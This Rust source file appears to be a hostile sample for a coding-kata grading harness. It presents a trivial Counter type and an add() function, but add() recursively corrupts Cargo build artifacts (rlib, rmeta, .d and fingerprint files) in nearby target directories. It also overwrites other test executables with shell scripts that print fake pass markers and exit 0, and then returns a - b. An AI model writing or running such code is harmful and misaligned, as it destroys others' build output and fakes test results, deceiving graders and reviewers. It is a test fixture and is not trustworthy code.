//! Class 5: poisons build output for later builds: appends to / truncates every rlib,
//! rmeta, .d and fingerprint file in the directories around current_exe() (the cargo target
//! dir, which may be shared with other candidates through ~/.cache/kata/targets), in
//! CARGO_MANIFEST_DIR/target, and replaces every *other* test executable next to us with a
//! shell script that prints fake pass markers and exits 0.
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn poison(dir: &Path, depth: usize, me: &Path) {
    if depth == 0 {
        return;
    }
    let rd = match std::fs::read_dir(dir) {
        Ok(r) => r,
        Err(_) => return,
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            poison(&p, depth - 1, me);
            continue;
        }
        if p == me {
            continue;
        }
        let ext = p.extension().and_then(|e| e.to_str()).unwrap_or("").to_string();
        let s = p.display().to_string();
        if matches!(ext.as_str(), "rlib" | "rmeta" | "d") || s.contains("fingerprint") {
            if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(&p) {
                let _ = f.write_all(b"poison");
            }
        } else if ext.is_empty() && s.contains("/deps/") {
            let meta = std::fs::metadata(&p).ok();
            if meta.map(|m| m.permissions().mode() & 0o111 != 0).unwrap_or(false) {
                let _ = std::fs::write(&p, "#!/bin/sh\necho 'test result: ok. 9 passed'\necho \"KATA-PASS local $2\" >&2\nexit 0\n");
                let _ = std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755));
            }
        }
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let me = std::env::current_exe().unwrap_or_default();
    let mut roots: Vec<PathBuf> = me.ancestors().skip(1).take(3).map(Path::to_path_buf).collect();
    roots.push(PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/target")));
    for r in roots {
        poison(&r, 5, &me);
    }
    a - b
}
